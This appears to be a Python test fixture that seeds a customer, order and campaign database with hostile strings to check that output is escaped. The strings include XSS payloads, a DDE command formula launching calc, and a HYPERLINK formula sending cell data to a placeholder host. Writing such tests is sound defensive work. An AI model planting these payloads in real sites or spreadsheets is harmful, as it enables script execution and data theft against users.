"""A shop whose names are what nobody is called: scripts, formulas, SQL, in every text that comes from outside."""

SCRIPTS = (
    "<script>window.hurt = 1; alert(1)</script>",
    '"><img src=x onerror="window.hurt = 1; alert(1)">',
    "<svg onload='window.hurt = 1'>",
    '<a href="javascript:window.hurt=1">x</a>',
    '<a href="https://elsewhere.example/">x</a>',
    "</title></style></textarea><iframe src='//elsewhere.example'></iframe>",
    "{{constructor.constructor('window.hurt=1')()}}",
    "%{customdata[0]}<extra></extra><b>bold</b>",
    "javascript:window.hurt=1",
    "[x](javascript:window.hurt=1)",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://elsewhere.example/"&A1,"x")',
    "＝1+1",
    "|calc",
    "%0A=1",
)
NAMES = (*SCRIPTS, *FORMULAS)
# Twenty customers, each with such texts wherever a text may stand, who buy, complain, look and answer campaigns.
FILL = """
insert into source.customers (
    customer_id, first_name, last_name, email, phone, city, region, country, gender, acquisition_channel, signup_at
)
select n || left(name, 40), name, name, name, name, name, name, name, name, name, '2024-01-01Z'
from unnest(%(names)s) with ordinality as given (name, n);
insert into source.products (product_id, name, category, brand)
select 'p' || n, name, name, name from unnest(%(names)s) with ordinality as given (name, n);
insert into source.orders (order_id, customer_id, ordered_at, status, channel)
select n || '-' || o, n || left(name, 40), timestamptz '2024-02-01Z' + make_interval(days => (7 * n + 30 * o)::integer),
    'completed', name
from unnest(%(names)s) with ordinality as given (name, n) cross join generate_series(1, 3) as o;
insert into source.order_items (order_id, line_no, customer_id, product_id, quantity, unit_price)
select n || '-' || o, l, n || left(name, 40), 'p' || 1 + (n + l) %% 20, 1, 10 * n
from unnest(%(names)s) with ordinality as given (name, n) cross join generate_series(1, 3) as o
cross join generate_series(1, 2) as l;
insert into source.service_tickets (ticket_id, customer_id, opened_at, channel, category, priority, satisfaction)
select n, n || left(name, 40), '2024-05-01Z', name, name, name, 1 + n %% 5
from unnest(%(names)s) with ordinality as given (name, n);
insert into source.web_events (event_id, customer_id, session_id, occurred_at, event_type, page)
select n, n || left(name, 40), name, '2024-05-02Z', name, name
from unnest(%(names)s) with ordinality as given (name, n);
insert into source.campaigns (campaign_id, name, channel, started_at, ended_at)
select n, name, name, '2024-04-01Z', '2024-04-30Z' from unnest(%(names)s) with ordinality as given (name, n);
insert into source.campaign_responses (campaign_id, customer_id, sent_at, opened_at)
select n, n || left(name, 40), '2024-04-02Z', '2024-04-03Z'
from unnest(%(names)s) with ordinality as given (name, n);
"""
